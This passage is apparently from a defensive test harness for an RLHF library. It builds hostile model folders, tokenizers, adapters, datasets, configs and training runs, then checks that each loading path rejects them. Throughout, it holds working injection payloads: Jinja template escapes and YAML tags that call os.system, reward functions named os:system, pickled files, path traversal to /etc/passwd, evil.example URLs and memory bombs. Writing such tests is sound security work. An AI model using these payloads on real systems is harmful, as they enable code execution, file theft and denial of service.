"""What an attacker would put into a folder that somebody else loads, and the door through which it is loaded.

    python -m torture.payloads FOLDER      loads each of them in a child that is watched; writes FOLDER/report.json

A payload is a function of a :class:`Lair`: it prepares the folder and returns what a user would do with it.
"""

from __future__ import annotations

import json
import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import torch
from safetensors.torch import load_file, save_file
from torture.lair import Lair

from rlhf_core.contracts.config import PromptsConfig
from rlhf_core.contracts.config_io import load_config
from rlhf_core.contracts.run_folder import RunFolder
from rlhf_core.evaluation.folder import EvaluationFolder
from rlhf_core.evaluation.request import Request
from rlhf_core.inspection import before_and_after, iteration_rows, sample_tokens, stage_rows
from rlhf_core.models.checkpoints import load_checkpoint
from rlhf_core.models.frozen import FrozenModels
from rlhf_core.models.language_model import LanguageModel
from rlhf_core.models.packing import PackedRows
from rlhf_core.models.policy import load_policy
from rlhf_core.models.reward_model import Conversation, RewardModel
from rlhf_core.models.tokenizers import load_policy_tokenizer, vocabulary_digest
from rlhf_core.preflight import preflight
from rlhf_core.prompts.sources import load_prompt_set
from rlhf_core.rewards.loading import load_component
from rlhf_core.verification.run import verify_run
from tasks.evaluation.evaluate import check_evaluation
from tasks.lifecycle.start import check_resumable, record_drift

CPU = torch.device("cpu")
Door = Callable[[], object]
Payload = Callable[[Lair], Door]
PAYLOADS: dict[str, Payload] = {}
CHAT = [{"role": "user", "content": "Hi"}]


def payload(make: Payload) -> Payload:
    """Add a payload by the name of its function."""
    PAYLOADS[make.__name__] = make
    return make


def among(names: list[str]) -> Callable[[Callable[[Lair, str], Door]], Callable[[Lair, str], Door]]:
    """Add a payload of several forms."""

    def add(make: Callable[[Lair, str], Door]) -> Callable[[Lair, str], Door]:
        for name in names:
            PAYLOADS[f"{make.__name__}[{name}]"] = lambda lair, name=name: make(lair, name)
        return make

    return add


# -- doors


def use_policy(lair: Lair, folder: Path, **changes: Any) -> Door:
    """What train does with a policy: check it, load it, ask it."""
    config = lair.config(**{"policy": {"model": str(folder)}, **changes})

    def door() -> None:
        problems: list[Exception] = []
        for step in (
            lambda: preflight(config),
            lambda: load_policy_tokenizer(str(folder), None).encode("Hi", is_chat=False),
            lambda: load_policy(config, CPU).hidden_states(PackedRows.of([[0, 0]])),
            lambda: LanguageModel.load(str(folder), dtype="float32", device=CPU, trainable=False),
        ):
            try:
                step()
            except Exception as error:
                problems.append(error)
        for error in sorted(problems, key=lambda e: type(e).__module__.startswith("rlhf_core")):
            raise error

    return door


def use_reward(lair: Lair, folder: Path, **changes: Any) -> Door:
    """What train does with a reward model."""
    config = lair.config(reward={"components": [{"kind": "model", "model": str(folder), **changes}]})

    def door() -> None:
        try:
            preflight(config)
        finally:
            vocabulary = vocabulary_digest(load_policy_tokenizer(str(lair.tiny.policy), None).tokenizer)
            component: Any = config.reward.components[0]
            RewardModel.load(component, field="reward", policy_vocabulary=vocabulary, device=CPU).score(
                [Conversation("a", "b", (), (5, 6))]
            )
            FrozenModels().load("AutoModelForSequenceClassification", str(folder), torch.float32, "reward")

    return door


def use_function(lair: Lair, function: str, **params: Any) -> Door:
    """What train does with a function: check it, and let it score."""
    config = lair.config(reward={"components": [{"kind": "function", "function": function, "params": params}]})

    def door() -> None:
        os.chdir(lair.folder)
        preflight(config)
        component = load_component(
            config.reward.components[0], field="reward", columns=[], policy_vocabulary="", device=CPU
        )
        component.score([Conversation("a", "b", (), (5, 6))])

    return door


def use_prompts(lair: Lair, source: Path | str, **changes: Any) -> Door:
    """What train does with prompts."""
    return lambda: load_prompt_set(PromptsConfig(source=str(source), **changes))


def use_config(lair: Lair, text: str | bytes) -> Door:
    """What every command does with a config."""
    path = lair.write("config.yaml", text)
    return lambda: load_config(path)


def use_run(lair: Lair, run: Path) -> Door:
    """What a person does with a run: look at it, verify it, evaluate it, go on with it."""

    def door() -> None:
        problems: list[Exception] = []
        os.chdir(lair.folder)

        def look() -> None:
            folder = RunFolder.open(run)
            iteration_rows(folder)
            stage_rows(folder, 0)
            before_and_after(folder)
            sample_tokens(folder, "i000000-p000001-s0")

        def checkpoint() -> None:
            folder = RunFolder.open(run)
            _ = folder.last_good
            load_checkpoint(folder.checkpoint_path(folder.checkpoints()[-1]), folder.config, CPU)

        for step in (
            look,
            lambda: verify_run(run),
            checkpoint,
            lambda: check_evaluation(Request(str(run), num_prompts=2, samples=2, frontier_samples=64), None),
            lambda: check_resumable(str(run), accept_drift=False),
            lambda: check_resumable(str(run), accept_drift=True),
        ):
            try:
                step()
            except Exception as error:
                problems.append(error)
        for error in sorted(problems, key=lambda e: type(e).__module__.startswith("rlhf_core")):
            raise error

    return door


# -- models


def _config_of(lair: Lair, **values: Any) -> Door:
    folder = lair.model()
    lair.write("model/evil_code.py", lair.code)
    lair.changed(folder / "config.json", values)
    return use_policy(lair, folder)


AUTO_MAP = {
    name: f"evil_code.Evil{kind}"
    for kind, names in {
        "Config": ("AutoConfig",),
        "Model": ("AutoModel", "AutoModelForCausalLM", "AutoModelForSequenceClassification"),
        "Tokenizer": ("AutoTokenizer",),
    }.items()
    for name in names
}


@payload
def auto_map_of_a_known_type(lair: Lair) -> Door:
    return _config_of(lair, auto_map=AUTO_MAP)


@payload
def auto_map_of_an_unknown_type(lair: Lair) -> Door:
    return _config_of(lair, auto_map=AUTO_MAP, model_type="evil")


@payload
def auto_map_to_the_hub(lair: Lair) -> Door:
    return _config_of(lair, auto_map={k: f"evil/repo--{v}" for k, v in AUTO_MAP.items()})


@payload
def auto_map_to_the_hub_of_an_unknown_type(lair: Lair) -> Door:
    return _config_of(lair, auto_map={k: f"evil/repo--{v}" for k, v in AUTO_MAP.items()}, model_type="evil")


@among(["attn_implementation", "_attn_implementation", "experts_implementation", "_experts_implementation"])
def kernel_of_the_hub(lair: Lair, key: str) -> Door:
    return _config_of(lair, **{key: "evil/kernel@main:attention"})


@payload
def kernel_in_a_table(lair: Lair) -> Door:
    return _config_of(lair, attn_implementation={"": "evil/kernel"})


@payload
def paged_kernel(lair: Lair) -> Door:
    return _config_of(lair, attn_implementation="paged|evil/kernel")


@among(["bitsandbytes", "gptq", "hqq", "awq", "torchao", "evil", "quark", "mxfp4", "finegrained_fp8"])
def quantized(lair: Lair, method: str) -> Door:
    return _config_of(lair, quantization_config={"quant_method": method, "load_in_4bit": True, "bits": 4})


@among(["os.system", "__class__", "load", "Tensor"])
def dtype_that_is_none(lair: Lair, name: str) -> Door:
    return _config_of(lair, dtype=name, torch_dtype=name)


@payload
def origin_elsewhere(lair: Lair) -> Door:
    return _config_of(lair, _name_or_path="evil/repo", _commit_hash="../../evil", name_or_path="evil/repo")


@among(["../outside.safetensors", "/etc/passwd", "https://evil.example/x.safetensors", "evil.bin"])
def weights_named_elsewhere(lair: Lair, name: str) -> Door:
    door = _config_of(lair, transformers_weights=name)
    lair.write("outside.safetensors", lair.pickled)
    lair.write("model/evil.bin", lair.pickled)
    return door


@payload
def a_thousand_million_layers(lair: Lair) -> Door:
    return _config_of(lair, n_layer=10**9)


@payload
def layers_by_another_name(lair: Lair) -> Door:
    return _config_of(lair, num_hidden_layers=10**9)


@payload
def a_vocabulary_without_end(lair: Lair) -> Door:
    return _config_of(lair, vocab_size=10**12)


@payload
def a_vocabulary_that_fills_the_memory(lair: Lair) -> Door:
    return _config_of(lair, vocab_size=2**30, n_embd=4096)


@payload
def a_context_that_fills_the_memory(lair: Lair) -> Door:
    return _config_of(lair, n_positions=2**30)


@payload
def sizes_that_are_no_numbers(lair: Lair) -> Door:
    return _config_of(lair, n_embd="__import__('os').system('" + lair.command + "')")


@payload
def a_class_elsewhere(lair: Lair) -> Door:
    return _config_of(lair, architectures=["evil_code.EvilModel", "os.system"])


@payload
def config_nested_deep(lair: Lair) -> Door:
    folder = lair.model()
    lair.write("model/config.json", '{"a":' * 200_000 + "1" + "}" * 200_000)
    return use_policy(lair, folder)


@payload
def config_is_a_pipe(lair: Lair) -> Door:
    folder = lair.model()
    (folder / "config.json").unlink()
    os.mkfifo(folder / "config.json")
    return use_policy(lair, folder)


@payload
def config_of_a_terabyte(lair: Lair) -> Door:
    folder = lair.model()
    os.truncate(folder / "config.json", 2**40)
    return use_policy(lair, folder)


@payload
def weights_are_pickled(lair: Lair) -> Door:
    folder = lair.model()
    (folder / "model.safetensors").unlink()
    lair.write("model/pytorch_model.bin", lair.pickled)
    return use_policy(lair, folder)


@payload
def pickled_weights_beside_empty_ones(lair: Lair) -> Door:
    folder = lair.model()
    save_file({"x": torch.zeros(1)}, folder / "model.safetensors", {"format": "pt"})
    lair.write("model/pytorch_model.bin", lair.pickled)
    return use_policy(lair, folder)


@payload
def safetensors_are_a_pickle(lair: Lair) -> Door:
    folder = lair.model()
    lair.write("model/model.safetensors", lair.pickled)
    return use_policy(lair, folder)


@payload
def weights_of_a_reward_are_pickled(lair: Lair) -> Door:
    folder = lair.model("reward")
    (folder / "model.safetensors").unlink()
    lair.write("model/pytorch_model.bin", lair.pickled)
    return use_reward(lair, folder)


@payload
def reward_with_auto_map(lair: Lair) -> Door:
    folder = lair.model("reward")
    lair.write("model/evil_code.py", lair.code)
    lair.changed(folder / "config.json", {"auto_map": AUTO_MAP})
    return use_reward(lair, folder)


def _header(lair: Lair, header: bytes, size: int | None = None) -> Door:
    folder = lair.model()
    data = struct.pack("<Q", len(header) if size is None else size) + header + bytes(64)
    lair.write("model/model.safetensors", data)
    return use_policy(lair, folder)


@payload
def header_longer_than_the_file(lair: Lair) -> Door:
    return _header(lair, b"{}", 2**62)


@payload
def header_with_offsets_outside(lair: Lair) -> Door:
    tensor = {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}
    return _header(lair, json.dumps({"transformer.wte.weight": tensor}).encode())


@payload
def header_with_a_shape_that_overflows(lair: Lair) -> Door:
    tensor = {"dtype": "F32", "shape": [2**62, 2**62, 4], "data_offsets": [0, 16]}
    return _header(lair, json.dumps({"transformer.wte.weight": tensor}).encode())


@payload
def header_nested_deep(lair: Lair) -> Door:
    return _header(lair, b'{"a":' * 100_000 + b"1" + b"}" * 100_000)


@among(
    ["../outside.safetensors", "/etc/passwd", "https://evil.example/x.safetensors", "x/../../y.safetensors", "e.bin"]
)
def shards_elsewhere(lair: Lair, shard: str) -> Door:
    folder = lair.model()
    (folder / "model.safetensors").rename(lair.folder / "outside.safetensors")
    lair.write("model/e.bin", lair.pickled)
    lair.write("model/other.safetensors", lair.pickled)
    lair.write("model/model.safetensors.index.json", json.dumps({"metadata": {}, "weight_map": {"a": shard}}))
    return use_policy(lair, folder)


@payload
def an_adapter_beside_the_model(lair: Lair) -> Door:
    folder = lair.model()
    base = {"peft_type": "LORA", "base_model_name_or_path": "evil/repo"}
    lair.write("model/adapter_config.json", json.dumps(base))
    lair.write("model/adapter_model.bin", lair.pickled)
    return use_policy(lair, folder)


@among(["/dev/zero", "/etc/passwd", "loop", "missing"])
def weights_are_a_link(lair: Lair, target: str) -> Door:
    folder = lair.model()
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").symlink_to("model.safetensors" if target == "loop" else target)
    return use_policy(lair, folder)


@payload
def generation_with_code(lair: Lair) -> Door:
    folder = lair.model()
    lair.write("model/custom_generate/generate.py", lair.code)
    lair.changed(folder / "generation_config.json", {"custom_generate": "evil/repo", "trust_remote_code": True})
    return use_policy(lair, folder)


@payload
def generation_that_ends_with_words(lair: Lair) -> Door:
    folder = lair.model()
    lair.changed(folder / "generation_config.json", {"eos_token_id": ["__import__('os')", {"a": 1}]})
    return use_policy(lair, folder)


# -- tokenizers


def _tokenizer_of(lair: Lair, **values: Any) -> Door:
    folder = lair.model()
    lair.write("model/evil_code.py", lair.code)
    lair.write("model/tokenization_evil.py", lair.code)
    lair.changed(folder / "tokenizer_config.json", values)
    return use_policy(lair, folder)


@payload
def tokenizer_with_auto_map(lair: Lair) -> Door:
    return _tokenizer_of(lair, auto_map={"AutoTokenizer": ["evil_code.EvilTokenizer", "evil_code.EvilTokenizerFast"]})


@payload
def tokenizer_with_auto_map_to_the_hub(lair: Lair) -> Door:
    return _tokenizer_of(lair, auto_map={"AutoTokenizer": ["evil/repo--evil_code.EvilTokenizer", None]})


@among(["EvilTokenizer", "os.system", "tokenization_evil.EvilTokenizer", "../evil_code"])
def tokenizer_of_a_class(lair: Lair, name: str) -> Door:
    return _tokenizer_of(lair, tokenizer_class=name)


@among(["/dev/zero", "../outside.json", "https://evil.example/tokenizer.json"])
def tokenizer_file_elsewhere(lair: Lair, name: str) -> Door:
    door = _tokenizer_of(lair, tokenizer_file=name, vocab_file=name, name_or_path="evil/repo")
    (lair.folder / "model" / "tokenizer.json").unlink()
    return door


@payload
def fast_files_elsewhere(lair: Lair) -> Door:
    return _tokenizer_of(lair, fast_tokenizer_files=["tokenizer.4.0.0.json", "tokenizer../../evil.json"])


@payload
def tokenizer_is_a_device(lair: Lair) -> Door:
    folder = lair.model()
    (folder / "tokenizer.json").unlink()
    (folder / "tokenizer.json").symlink_to("/dev/urandom")
    return use_policy(lair, folder)


@payload
def vocabulary_is_pickled(lair: Lair) -> Door:
    folder = lair.model()
    (folder / "tokenizer.json").unlink()
    for name in ("tokenizer.model", "vocab.pkl", "vocab.json", "spiece.model", "vocab.txt", "merges.txt"):
        lair.write(f"model/{name}", lair.pickled)
    return use_policy(lair, folder)


@payload
def added_tokens_nested_deep(lair: Lair) -> Door:
    folder = lair.model()
    lair.write("model/added_tokens.json", "[" * 200_000)
    return use_policy(lair, folder)


TEMPLATES = {
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('COMMAND').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('COMMAND') }}",
    "exception": "{{ raise_exception.__globals__['__builtins__']['open']('CANARY', 'w') }}",
    "clock": "{{ strftime_now.__globals__['__builtins__']['open']('CANARY', 'w') }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import '/etc/passwd' as evil %}{{ evil }}",
    "list": "{% set _ = messages.append(1) %}{{ messages[0].__setitem__('a', 1) }}",
    "loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}{% endfor %}"
    "{% endfor %}{{ messages }}",
    "memory": "{{ ('a' * 99999999) * 99999 }}{{ messages }}",
    "doubling": "{% set n = namespace(x='aaaaaaaa') %}{% for a in range(60) %}{% set n.x = n.x ~ n.x %}"
    "{% endfor %}{{ n.x }}",
    "recursion": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "padding": "{{ '%999999999999d' % 1 }}{{ messages }}",
    "power": "{{ 9 ** 9 ** 9 }}{{ messages }}",
}


@among(list(TEMPLATES))
def template_of_a_policy(lair: Lair, name: str) -> Door:
    template = TEMPLATES[name].replace("COMMAND", lair.command).replace("CANARY", str(lair.canary))
    folder = lair.model()
    lair.write("model/chat_template.jinja", template)
    chats = lair.write("chats.jsonl", (json.dumps({"prompt": CHAT}) + "\n") * 8)
    return use_policy(lair, folder, prompts={"source": str(chats), "batch_size": 8})


@among(["mro", "globals", "loops", "memory"])
def template_of_a_reward(lair: Lair, name: str) -> Door:
    template = TEMPLATES[name].replace("COMMAND", lair.command).replace("CANARY", str(lair.canary))
    return use_reward(lair, lair.tiny.reward, chat_template=template)


@among(["/dev/zero", "pipe"])
def template_file_without_end(lair: Lair, name: str) -> Door:
    if name == "pipe":
        name = str(lair.folder / "pipe")
        os.mkfifo(name)
    return use_reward(lair, lair.tiny.reward, chat_template=name)


@payload
def template_is_a_foreign_file(lair: Lair) -> Door:
    folder = lair.model()
    (folder / "chat_template.jinja").symlink_to("/etc/passwd")
    return use_policy(lair, folder)


@payload
def template_folder_leads_outside(lair: Lair) -> Door:
    folder = lair.model()
    (folder / "additional_chat_templates").mkdir()
    (folder / "additional_chat_templates" / "tool.jinja").symlink_to("/etc/passwd")
    return use_policy(lair, folder)


# -- adapters


def _adapter(lair: Lair, weights: bytes | None = None, **values: Any) -> Door:
    plain: dict[str, Any] = {
        "peft_type": "LORA",
        "task_type": "CAUSAL_LM",
        "base_model_name_or_path": str(lair.tiny.policy),
        "r": 2,
        "lora_alpha": 4,
        "target_modules": ["c_attn"],
        "fan_in_fan_out": True,
    }
    lair.write("evil_code.py", lair.code)
    lair.write("adapter/adapter_config.json", json.dumps(plain | values))
    if weights is None:
        save_file({"base_model.model.x": torch.zeros(2)}, lair.folder / "adapter" / "adapter_model.safetensors")
    else:
        lair.write("adapter/adapter_model.safetensors", weights)
    lair.write("adapter/adapter_model.bin", lair.pickled)
    use = use_policy(
        lair, lair.tiny.policy, policy={"model": str(lair.tiny.policy), "adapter": str(lair.folder / "adapter")}
    )
    alone = use_policy(lair, lair.folder / "adapter")

    def door() -> None:
        os.chdir(lair.folder)
        try:
            alone()
        finally:
            use()

    return door


@payload
def adapter_with_a_library(lair: Lair) -> Door:
    return _adapter(lair, task_type=None, auto_mapping={"base_model_class": "Evil", "parent_library": "evil_code"})


@payload
def adapter_is_pickled(lair: Lair) -> Door:
    door = _adapter(lair)
    (lair.folder / "adapter" / "adapter_model.safetensors").unlink()
    return door


@payload
def adapter_safetensors_are_a_pickle(lair: Lair) -> Door:
    return _adapter(lair, lair.pickled)


@payload
def adapter_of_a_base_on_the_hub(lair: Lair) -> Door:
    return _adapter(lair, base_model_name_or_path="evil/repo", revision="main")


@payload
def adapter_of_another_type(lair: Lair) -> Door:
    return _adapter(lair, peft_type="EVIL")


@payload
def adapter_with_a_slow_pattern(lair: Lair) -> Door:
    return _adapter(lair, target_modules="(([a-z_.0-9])+)+#", rank_pattern={"(([a-z_.0-9])+)+#": 4})


@among(["eva", "pissa", "loftq", "corda", "olora"])
def adapter_that_is_computed(lair: Lair, how: str) -> Door:
    return _adapter(lair, init_lora_weights=how, corda_config={"cache_file": "evil.pt"}, loftq_config={"a": 1})


@payload
def adapter_with_trainable_tokens_and_code(lair: Lair) -> Door:
    return _adapter(lair, modules_to_save=["lm_head"], trainable_token_indices=[1], _custom_modules={"a": "evil_code"})


@payload
def adapter_of_a_huge_rank(lair: Lair) -> Door:
    return _adapter(lair, r=10**10)


@payload
def adapter_of_a_rank_that_fills_the_memory(lair: Lair) -> Door:
    return _adapter(lair, r=10**8)


# -- prompts


def _extension(lair: Lair) -> pa.Table:
    column = pa.array(["Hi", "Ho"])
    extension = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": lair.pickled}
    pandas = {"pandas": b'{"index_columns": [], "columns": [{"name": "prompt", "pandas_type": "evil.Evil"}]}'}
    field = pa.field("prompt", pa.string(), metadata=extension)
    return pa.Table.from_arrays([column], schema=pa.schema([field], metadata=pandas))


@among(["arrow", "parquet", "stream"])
def extension_type_that_is_pickled(lair: Lair, kind: str) -> Door:
    path = lair.folder / f"prompts.{'parquet' if kind == 'parquet' else 'arrow'}"
    table = _extension(lair)
    if kind == "parquet":
        pq.write_table(table, path)
    else:
        make = pa.ipc.new_file if kind == "arrow" else pa.ipc.new_stream
        with make(path, table.schema) as writer:
            writer.write_table(table)
    return use_prompts(lair, path)


@among([".jsonl", ".json", ".csv", ".parquet", ".arrow", ".feather", ".pkl", ".pt", ".py"])
def prompts_are_a_pickle(lair: Lair, suffix: str) -> Door:
    return use_prompts(lair, lair.write(f"prompts{suffix}", lair.pickled))


@payload
def prompts_nested_deep(lair: Lair) -> Door:
    return use_prompts(lair, lair.write("prompts.jsonl", '{"prompt":' * 100_000))


@payload
def prompts_are_a_pipe(lair: Lair) -> Door:
    os.mkfifo(lair.folder / "prompts.jsonl")
    return use_prompts(lair, lair.folder / "prompts.jsonl")


@payload
def a_dataset_with_a_script(lair: Lair) -> Door:
    for name in ("prompts.py", "evil.py", "__init__.py", "dataset_infos.py"):
        lair.write(f"prompts/{name}", lair.code)
    lair.write("prompts/data.jsonl", '{"prompt": "Hi"}\n')
    return use_prompts(lair, lair.folder / "prompts")


@payload
def a_script_alone(lair: Lair) -> Door:
    lair.write("prompts/prompts.py", lair.code)
    return use_prompts(lair, lair.folder / "prompts")


@among(
    [
        "data_files: https://evil.example/x.jsonl",
        "data_files: hf://datasets/evil/x/x.jsonl",
        "data_files: ../outside.jsonl",
        "data_files: /etc/*",
        "data_files: [{split: train, path: 'zip://x.jsonl::http://evil.example/a.zip'}]",
        "data_dir: https://evil.example/",
        "data_dir: ../..",
        "drop_labels: !!python/object/apply:os.system ['COMMAND']",
    ]
)
def a_dataset_card_that_leads_elsewhere(lair: Lair, line: str) -> Door:
    line = line.replace("COMMAND", lair.command)
    lair.write("outside.jsonl", '{"prompt": "Hi"}\n')
    lair.write("prompts/data.jsonl", '{"prompt": "Hi"}\n')
    lair.write("prompts/README.md", f"---\nconfigs:\n- config_name: default\n  {line}\n---\n")
    return use_prompts(lair, lair.folder / "prompts")


@among(["pickle.pkl", "x.tar", "x.eval", "x.h5", "x.xml", "x.lance", "x.toml", "x.pdf"])
def a_folder_of_another_kind(lair: Lair, name: str) -> Door:
    lair.write(f"prompts/{name}", lair.pickled)
    return use_prompts(lair, lair.folder / "prompts")


def _saved(lair: Lair) -> Path:
    import datasets

    datasets.Dataset.from_dict({"prompt": ["Hi", "Ho"]}).save_to_disk(str(lair.folder / "prompts"))
    return lair.folder / "prompts"


@among(["../../../etc/passwd", "/etc/passwd", "https://evil.example/x.arrow", "../outside.arrow"])
def a_saved_dataset_that_leads_elsewhere(lair: Lair, name: str) -> Door:
    folder = _saved(lair)
    (lair.folder / "outside.arrow").write_bytes(next(folder.glob("*.arrow")).read_bytes())
    lair.changed(folder / "state.json", {"_data_files": [{"filename": name}]})
    return use_prompts(lair, folder)


@among(["Evil", "os.system", "Image", "Audio", "Video", "Pdf", "Array2D"])
def a_saved_dataset_of_features(lair: Lair, kind: str) -> Door:
    folder = _saved(lair)
    lair.changed(folder / "dataset_info.json", {"features": {"prompt": {"_type": kind, "dtype": "string"}}})
    return use_prompts(lair, folder)


@payload
def a_saved_dataset_with_a_builder(lair: Lair) -> Door:
    folder = _saved(lair)
    lair.changed(folder / "dataset_info.json", {"builder_name": "evil", "download_checksums": {"https://evil": {}}})
    lair.changed(folder / "state.json", {"_format_type": "torch", "_format_kwargs": {"dtype": "evil"}})
    return use_prompts(lair, folder)


@payload
def splits_that_lead_elsewhere(lair: Lair) -> Door:
    _saved(lair).rename(lair.folder / "outside")
    lair.write("prompts/dataset_dict.json", json.dumps({"splits": ["train", "../../outside", "/etc"]}))
    return use_prompts(lair, lair.folder / "prompts")


# -- configs


YAMLS = {
    "python object": "a: !!python/object/apply:os.system ['COMMAND']",
    "python name": "a: !!python/name:os.system",
    "python module": "a: !!python/module:evil_code",
    "bomb": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)),
    "merge": "a: &a {seed: 1}\nb: {<<: *a}",
    "directive": "%YAML 1.1\n---\nseed: 0o7\n",
    "tag directive": "%TAG ! tag:python/object/apply:os.\n---\na: !system COMMAND\n",
    "documents": "seed: 1\n---\nseed: 2\n",
    "deep": "[" * 50_000,
    "deep blocks": "".join(" " * i + "a:\n" for i in range(1000)),
    "digits": "seed: " + "9" * 500_000,
    "binary": "seed: !!binary YWJj",
    "set": "seed: !!set {a, b}",
    "bytes": b"\xff\xfe\x00s",
    "control": "seed: \x07",
    "environment": "policy: {model: ${HOME}}\n",
    "trust": "policy: {model: x, trust_remote_code: true}\n",
}


@among(list(YAMLS))
def yaml(lair: Lair, name: str) -> Door:
    lair.write("evil_code.py", lair.code)
    text = YAMLS[name]
    return use_config(lair, text.replace("COMMAND", lair.command) if isinstance(text, str) else text)


@payload
def config_file_is_a_device(lair: Lair) -> Door:
    (lair.folder / "config.yaml").symlink_to("/dev/zero")
    return lambda: load_config(lair.folder / "config.yaml")


FUNCTIONS: dict[str, dict[str, Any]] = {
    "os:system": {"command": "COMMAND"},
    "subprocess:call": {"args": "COMMAND", "shell": True},
    "subprocess:getoutput": {"cmd": "COMMAND"},
    "runpy:run_path": {"path_name": "evil_code.py"},
    "importlib:import_module": {"name": "evil_code"},
    "builtins:exec": {},
    "torch:hub.load": {"repo_or_dir": "evil", "source": "local", "model": "score"},
    "torch:load": {"f": "evil.pt", "weights_only": False},
    "transformers:AutoModel.from_pretrained": {"pretrained_model_name_or_path": "model", "trust_remote_code": True},
    "torch.serialization:load": {"f": "evil.pt", "weights_only": False},
    "rlhf_core.rewards.function:importlib.import_module": {"name": "evil_code"},
    "rlhf_core.contracts.durable:os.system": {"command": "COMMAND"},
    "pydoc:render_doc": {"thing": "evil_code"},
}


@among(list(FUNCTIONS))
def function_of_a_library(lair: Lair, name: str) -> Door:
    lair.write("evil_code.py", lair.code)
    lair.write("evil/hubconf.py", lair.code)
    lair.write("evil.pt", lair.pickled)
    lair.model()
    lair.write("model/evil_code.py", lair.code)
    lair.changed(lair.folder / "model" / "config.json", {"auto_map": AUTO_MAP, "model_type": "evil"})
    params = {k: lair.command if v == "COMMAND" else v for k, v in FUNCTIONS[name].items()}
    return use_function(lair, name, **params)


# -- runs


def _function_run(lair: Lair, function: str, **identity: Any) -> Door:
    run = lair.run()
    component = {"kind": "function", "function": function, "name": "evil"}
    lair.change_config(run, lambda config: config.update(reward={**config["reward"], "components": [component]}))
    if identity:
        there = RunFolder.open(run).identity
        lair.changed(run / "run.json", {"identity": {**there, **identity}})
    return use_run(lair, run)


@payload
def run_that_names_code_in_the_working_folder(lair: Lair) -> Door:
    lair.write("evil_code.py", lair.code)
    door = _function_run(lair, "evil_code:score")

    def without_consent() -> None:
        os.chdir(lair.folder)
        try:
            check_evaluation(Request(str(lair.folder / "run")), None)
        finally:
            check_resumable(str(lair.folder / "run"), accept_drift=False)

    assert door
    return without_consent


@payload
def run_with_code_inside(lair: Lair) -> Door:
    door = _function_run(lair, "evil_code:score")
    lair.write("run/evil_code.py", lair.code)

    def inside() -> None:
        os.chdir(lair.folder / "run")
        try:
            check_evaluation(Request("."), None)
        finally:
            check_resumable(".", accept_drift=True)
            record_drift(".")

    assert door
    return inside


@payload
def run_that_names_a_package_with_code(lair: Lair) -> Door:
    lair.write("evil_package/__init__.py", lair.code)
    lair.write("evil_package/inner.py", lair.code)
    _function_run(lair, "evil_package.inner:score")

    def without_consent() -> None:
        os.chdir(lair.folder)
        check_resumable(str(lair.folder / "run"), accept_drift=False)

    return without_consent


@payload
def run_that_names_the_system(lair: Lair) -> Door:
    return _function_run(lair, "os:system")


def _checkpoint(lair: Lair, change: Callable[[Path], object]) -> Door:
    run = lair.run()
    path = max((run / "checkpoints").glob("[0-9]*"))
    change(path)
    lair.reseal_checkpoint(path)
    return use_run(lair, run)


@payload
def checkpoint_with_auto_map(lair: Lair) -> Door:
    def change(path: Path) -> None:
        (path / "policy" / "evil_code.py").write_text(lair.code)
        lair.changed(path / "policy" / "config.json", {"auto_map": AUTO_MAP})

    return _checkpoint(lair, change)


@payload
def checkpoint_of_an_unknown_type(lair: Lair) -> Door:
    def change(path: Path) -> None:
        (path / "policy" / "evil_code.py").write_text(lair.code)
        lair.changed(path / "policy" / "config.json", {"auto_map": AUTO_MAP, "model_type": "evil"})

    return _checkpoint(lair, change)


@payload
def checkpoint_that_is_pickled(lair: Lair) -> Door:
    def change(path: Path) -> None:
        (path / "policy" / "model.safetensors").unlink()
        (path / "policy" / "pytorch_model.bin").write_bytes(lair.pickled)

    return _checkpoint(lair, change)


@payload
def optimizer_that_is_pickled(lair: Lair) -> Door:
    return _checkpoint(lair, lambda path: (path / "optimizer.safetensors").write_bytes(lair.pickled))


@payload
def critic_with_a_trunk_of_code(lair: Lair) -> Door:
    def change(path: Path) -> None:
        (path / "critic" / "evil_code.py").write_text(lair.code)
        config = json.loads((path / "policy" / "config.json").read_text())
        (path / "critic" / "config.json").write_text(json.dumps(config | {"auto_map": AUTO_MAP, "model_type": "evil"}))

    return _checkpoint(lair, change)


@payload
def critic_with_a_kernel_of_the_hub(lair: Lair) -> Door:
    def change(path: Path) -> None:
        config = json.loads((path / "policy" / "config.json").read_text())
        (path / "critic" / "config.json").write_text(json.dumps(config | {"attn_implementation": "evil/kernel"}))

    return _checkpoint(lair, change)


@payload
def critic_without_end(lair: Lair) -> Door:
    def change(path: Path) -> None:
        config = json.loads((path / "policy" / "config.json").read_text())
        (path / "critic" / "config.json").write_text(json.dumps(config | {"vocab_size": 2**30, "n_embd": 4096}))

    return _checkpoint(lair, change)


@payload
def optimizer_state_that_fills_the_memory(lair: Lair) -> Door:
    def change(path: Path) -> None:
        tensors = load_file(path / "optimizer.safetensors")
        name = next(iter(tensors)).rpartition("|")[0]
        save_file({**tensors, f"{name}|__class__": torch.zeros(2)}, path / "optimizer.safetensors")

    return _checkpoint(lair, change)


@among(["/etc/passwd", "../../../outside.arrow", "iterations/000000/01_prompts.arrow"])
def manifest_that_leads_elsewhere(lair: Lair, path: str) -> Door:
    run = lair.run()
    manifest = run / "iterations" / "000000" / "02_rollouts.json"
    artifact = json.loads(manifest.read_text())["artifact"]
    lair.changed(manifest, {"artifact": {**artifact, "path": path}})
    return use_run(lair, run)


@among(["checkpoints/last_good", "run.json", "before_after.json", "iterations/000000/02_rollouts.arrow"])
def run_with_a_link(lair: Lair, name: str) -> Door:
    run = lair.run()
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to("/dev/zero")
    return use_run(lair, run)


@among(["run.json", "before_after.json", "guards.json", "iterations/000000/02_rollouts.arrow", "lock"])
def run_with_a_pipe(lair: Lair, name: str) -> Door:
    run = lair.run()
    (run / name).unlink(missing_ok=True)
    os.mkfifo(run / name)
